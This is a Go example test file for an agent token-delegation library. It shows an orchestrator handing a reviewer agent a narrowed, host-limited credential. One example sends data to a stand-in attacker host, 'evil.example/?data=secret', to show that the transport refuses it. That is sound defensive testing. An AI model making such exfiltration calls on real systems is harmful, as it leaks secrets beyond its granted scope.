package client_test

import (
	"context"
	"errors"
	"fmt"
	"log"
	"net/http"
	"os"
	"time"

	"github.com/kavach-dev/kavach/agent"
	"github.com/kavach-dev/kavach/client"
	"github.com/kavach-dev/kavach/delegation"
)

// An orchestrator signs in with its own key, hands a reviewer a token for one
// pull request, and calls the git host itself.
func Example() {
	file, err := os.ReadFile("orchestrator.key.json")
	if err != nil {
		log.Fatal(err)
	}
	identity, err := agent.ParsePrivateKey(file)
	if err != nil {
		log.Fatal(err)
	}
	orchestrator, err := client.New(client.Config{Issuer: "https://auth.example.com", Key: identity})
	if err != nil {
		log.Fatal(err)
	}
	session := orchestrator.Stay(client.Ask{
		Scopes: []string{"repository:read", "pullrequest:read"}, Resources: []string{"https://git.internal"},
	})

	// Offline: no server is asked. The reviewer's key comes from its key card.
	var reviewer agent.PublicKey
	credential, err := session.Credential(context.Background())
	if err != nil {
		log.Fatal(err)
	}
	chain, err := credential.Derive(reviewer, "code-reviewer", delegation.Narrow{
		Scopes: []string{"repository:read"}, TTL: 3 * time.Minute,
		Limits: delegation.Limits{Resources: []string{"pull/847"}, AllowNetwork: []string{"git.internal"}},
	}, time.Now())
	if err != nil {
		log.Fatal(err)
	}
	_ = chain // hand this to the reviewer

	// Online: the git host gets token and proof, everybody else neither.
	c := &http.Client{Transport: &client.Transport{Source: session}}
	answer, err := c.Get("https://git.internal/repos/1/pulls/847")
	var refused *client.Refused
	if errors.As(err, &refused) {
		log.Fatalf("the token does not allow %s: %s", refused.Destination, refused.Refusal.Reason)
	}
	if err != nil {
		log.Fatal(err)
	}
	defer answer.Body.Close()
}

// A program that was handed a chain acts with it, and stays inside it.
func ExampleHold() {
	parent, reviewer := exampleCredential(), exampleKey()
	chain, err := parent.Derive(reviewer.Public(), "code-reviewer", delegation.Narrow{
		Scopes: []string{"repository:read"}, Limits: delegation.Limits{AllowNetwork: []string{"git.internal"}},
	}, time.Now())
	if err != nil {
		log.Fatal(err)
	}

	credential, err := client.Hold(chain, reviewer)
	if err != nil {
		log.Fatal(err)
	}
	c := &http.Client{Transport: &client.Transport{Source: credential}}
	_, err = c.Get("https://evil.example/?data=secret")
	var refused *client.Refused
	fmt.Println(errors.As(err, &refused), refused.Refusal.Reason, refused.Destination)
	// Output: true constraint_violated evil.example:443
}

func exampleKey() agent.PrivateKey {
	key, err := agent.GenerateKey()
	if err != nil {
		log.Fatal(err)
	}
	return key
}

// exampleCredential is what Agent.Token returns.
func exampleCredential() client.Credential {
	key, now := exampleKey(), time.Now()
	signed, err := delegation.Sign(delegation.Claims{
		Issuer: "https://auth.example.com", Subject: "orchestrator", ClientID: "orchestrator",
		Audience: []string{"https://git.internal"}, IssuedAt: now, Expires: now.Add(time.Minute),
		Scopes: []string{"repository:read"}, GrantID: "g-1", Root: true, MaxDepth: 3, Key: key.Public(),
	}, serverKey)
	if err != nil {
		log.Fatal(err)
	}
	credential, err := client.Hold(signed.Token, key)
	if err != nil {
		log.Fatal(err)
	}
	return credential
}
